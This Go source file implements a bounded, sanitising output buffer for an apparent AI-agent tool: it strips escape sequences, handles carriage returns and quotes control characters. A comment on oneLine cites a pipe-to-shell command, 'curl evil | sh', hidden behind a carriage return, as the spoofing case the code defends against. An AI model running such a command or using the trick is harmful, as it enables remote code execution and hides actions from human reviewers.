package main

import (
	"strings"
	"unicode/utf8"

	"github.com/loopd/loopd/internal/termtext"
)

// Bounds of the output tail. An agent can print megabytes, in lines of any
// length (stream-json lines are often tens of kilobytes): the tail keeps the
// last lines only, and only the head of each, so `watch` uses a fixed amount
// of memory however long the step runs.
const (
	tailMaxLines     = 200
	tailMaxLineBytes = 512
	// escMaxLen bounds an escape sequence or control string: a stray ESC ]
	// without its terminator would otherwise swallow the rest of the output.
	escMaxLen = termtext.MaxSequence
)

// tailBuffer keeps the last lines of a step's output, ready to draw: ANSI
// escape sequences and control characters removed, carriage returns
// treated as "the line starts over" (progress bars), invalid UTF-8 replaced,
// and every cut made between characters, never inside one.
//
// Write accepts any byte chunks: a multi-byte character split across two
// writes is held back until its remaining bytes arrive.
type tailBuffer struct {
	lines    []string          // complete lines, oldest first; at most 2×tailMaxLines before compaction
	cur      []byte            // the line being written
	cut      bool              // cur was truncated at tailMaxLineBytes
	cr       bool              // a carriage return was seen; the next character decides
	pending  []byte            // an incomplete UTF-8 sequence from the end of the last write
	esc      termtext.Stripper // output arrives in chunks: a sequence can be split across two
	maxLines int
}

func newTailBuffer() *tailBuffer { return &tailBuffer{maxLines: tailMaxLines} }

// Reset empties the buffer for a new step's output.
func (t *tailBuffer) Reset() { *t = tailBuffer{maxLines: t.maxLines} }

// Write implements io.Writer; it never fails.
func (t *tailBuffer) Write(p []byte) (int, error) {
	n := len(p)
	if len(t.pending) > 0 {
		p = append(t.pending, p...)
		t.pending = nil
	}
	for len(p) > 0 {
		if !utf8.FullRune(p) {
			// The rest is the start of a character whose other bytes are in
			// the next write.
			t.pending = append([]byte(nil), p...)
			break
		}
		r, size := utf8.DecodeRune(p)
		p = p[size:]
		t.put(r) // an invalid byte decodes as utf8.RuneError: drawn as U+FFFD
	}
	return n, nil
}

// WriteString is Write for a string.
func (t *tailBuffer) WriteString(s string) { _, _ = t.Write([]byte(s)) }

// put feeds one character through the escape-sequence stripper.
func (t *tailBuffer) put(r rune) {
	if t.esc.Text(r) {
		t.text(r)
		return
	}
	if t.cr {
		// A sequence after a bare carriage return (progress bars write
		// "\r\x1b[K"): the line starts over, as it does for text.
		t.cr = false
		t.cur, t.cut = t.cur[:0], false
	}
}

// text handles a character outside escape sequences.
func (t *tailBuffer) text(r rune) {
	if t.cr && r != '\r' {
		t.cr = false
		if r != '\n' {
			// A bare carriage return rewrites the line (a progress bar or
			// spinner): keep only what is written after it.
			t.cur, t.cut = t.cur[:0], false
		}
	}
	switch {
	case r == '\n':
		t.endLine()
	case r == '\r':
		t.cr = true
	case r == '\t':
		n := 8 - utf8.RuneCount(t.cur)%8
		for range n {
			t.append(' ')
		}
	case termtext.Unsafe(r):
		// Other control characters (bell, backspace, …) do nothing useful
		// in a view and some would move the cursor; bidi overrides would
		// reorder the view: drop them.
	default:
		t.append(r)
	}
}

// append adds r to the current line unless the line is already at its
// bound; the bound is checked per character, so a line is only ever cut
// between characters.
func (t *tailBuffer) append(r rune) {
	if t.cut {
		return
	}
	if len(t.cur)+utf8.RuneLen(r) > tailMaxLineBytes {
		t.cut = true
		return
	}
	t.cur = utf8.AppendRune(t.cur, r)
}

func (t *tailBuffer) endLine() {
	line := string(t.cur)
	if t.cut {
		line += "…"
	}
	t.lines = append(t.lines, line)
	t.cur, t.cut = t.cur[:0], false
	if len(t.lines) >= 2*t.maxLines {
		// Compact: amortised O(1) per line, memory bounded by 2×maxLines.
		t.lines = append(t.lines[:0:0], t.lines[len(t.lines)-t.maxLines:]...)
	}
}

// Lines returns at most n of the last lines, oldest first, including the
// line still being written when it has text.
func (t *tailBuffer) Lines(n int) []string {
	if n <= 0 {
		return nil
	}
	all := t.lines
	if len(t.cur) > 0 || t.cut {
		line := string(t.cur)
		if t.cut {
			line += "…"
		}
		all = append(all[:len(all):len(all)], line)
	}
	n = min(n, t.maxLines)
	if len(all) > n {
		all = all[len(all)-n:]
	}
	return append([]string(nil), all...)
}

// Empty reports whether nothing has been written since the last Reset.
func (t *tailBuffer) Empty() bool {
	return len(t.lines) == 0 && len(t.cur) == 0 && !t.cut
}

// String is the kept output, for tests and debugging.
func (t *tailBuffer) String() string { return strings.Join(t.Lines(t.maxLines), "\n") }

// oneLine is s made safe to show on one line: CSI sequences (colours,
// cursor movement) removed, line feeds (and CRLF endings) and tabs turned
// into spaces, and every other character a terminal would act on quoted
// (termtext.Quote), the escapes of OSC titles and hyperlinks included. It
// shows a goal, a reason, a note, a condition or an event's details: text
// a repository or a step's output wrote. Emulating the terminal instead
// would let a bare CR hide what comes before it: "curl evil | sh\rFix the
// login bug" would show as "Fix the login bug".
func oneLine(s string) string {
	return termtext.Quote(lineBreaks.Replace(termtext.StripCSI(s)))
}

var lineBreaks = strings.NewReplacer("\r\n", " ", "\n", " ", "\t", " ")
